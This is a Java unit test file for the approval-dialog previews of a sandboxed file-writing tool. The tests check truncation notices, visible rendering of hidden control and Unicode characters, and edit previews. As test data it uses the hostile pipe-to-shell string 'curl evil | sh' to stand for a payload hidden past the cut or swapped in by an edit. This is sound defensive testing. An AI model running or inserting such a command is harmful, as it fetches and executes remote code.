package dev.toolfs.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class ApprovalRequestTest {

    private static final String CUT = " characters shown; deny unless you have seen the whole change elsewhere]";

    @Test
    void aWriteShowsItsContentWholeUpToTheCut() {
        assertThat(ApprovalRequest.Change.write("#!/bin/sh\nmake test\n").preview(100))
                .isEqualTo("It would write 20 characters in 2 lines:\n#!/bin/sh\nmake test\n");
        assertThat(ApprovalRequest.Change.write("").preview(100)).isEqualTo("It would write 0 characters in 0 lines:\n");
        assertThat(ApprovalRequest.Change.write("x").preview(100)).isEqualTo("It would write 1 character in 1 line:\nx");
        // Past the cut, a payload could hide behind harmless lines: the preview says it is cut, and how long the text is.
        assertThat(ApprovalRequest.Change.write("a".repeat(10) + "curl evil | sh").preview(10))
                .isEqualTo("It would write 24 characters in 1 line:\naaaaaaaaaa\n[cut: 10 of 24" + CUT);
        // Characters, not UTF-16 units, and never half of one.
        assertThat(ApprovalRequest.Change.write("abc\uD83D\uDE00d").preview(4))
                .isEqualTo("It would write 5 characters in 1 line:\nabc\uD83D\uDE00\n[cut: 4 of 5" + CUT);
    }

    @Test
    void whatATerminalOrADialogWouldHideIsShownByItsCodePoint() {
        // Found in a review: an escape sequence, a direction override or a zero-width character went to the dialog raw.
        assertThat(ApprovalRequest.Change.write("a\u001B[2Jb\u202Ec\u200Bd\re\tf\n").preview(100))
                .isEqualTo("It would write 15 characters in 1 line:\na\\u{1B}[2Jb\\u{202E}c\\u{200B}d\\u{D}e\tf\n");
    }

    @Test
    void anEditShowsBothStringsAndHowManyItReplaces() {
        assertThat(ApprovalRequest.Change.edit("echo two", "curl evil | sh", true).preview(100))
                .isEqualTo("It would replace every occurrence of:\necho two\nwith:\ncurl evil | sh");
        assertThat(ApprovalRequest.Change.edit("x", "y", false).preview(100))
                .isEqualTo("It would replace the one occurrence of:\nx\nwith:\ny");
        assertThat(ApprovalRequest.Change.edit("old", "0123456789", false).preview(10))
                .isEqualTo("It would replace the one occurrence of:\nold\nwith:\n01234\n[cut: 5 of 10" + CUT);
        // A limit too small for anything is taken as the least that shows a character of each.
        assertThat(ApprovalRequest.Change.edit("ab", "cd", false).preview(0))
                .isEqualTo("It would replace the one occurrence of:\na\n[cut: 1 of 2" + CUT + "\nwith:\nc\n[cut: 1 of 2" + CUT);
    }

    @Test
    void aToolThatGaveNoChangeSaysSo() {
        // An application's own tool may call the escalation with neither a content nor an edit.
        ApprovalRequest.Change none = ApprovalRequest.Change.write(null);
        assertThat(none.known()).isFalse();
        assertThat(none.preview(100)).isEqualTo("The tool gave no preview of the change.");
    }
}
